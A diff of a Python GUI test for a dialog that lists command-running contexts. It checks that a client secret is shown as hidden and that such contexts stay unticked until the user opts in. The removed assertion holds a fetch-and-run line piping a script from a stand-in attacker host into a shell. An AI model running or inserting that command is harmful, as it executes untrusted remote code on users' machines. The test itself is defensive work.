@@ -138,7 +138,9 @@ contexts:
     dialog, presenter = _dialog(qtbot, path)
     item = dialog.contexts.item(0)
     text = item.text()
-    assert "curl -fsS https://attacker.example.net/p | sh" in text, text
+    # the value stays hidden (a real plugin's client secret is passed so), said to be read
+    assert "OIDC_CLIENT_SECRET=<hidden, and read by the command line" in text, text
+    assert "attacker.example.net" not in text
     assert not any(c in text for c in UNSEEN), repr(text)
     assert item.checkState() == Qt.CheckState.Unchecked  # runs a command: the user's tick
     item.setCheckState(Qt.CheckState.Checked)
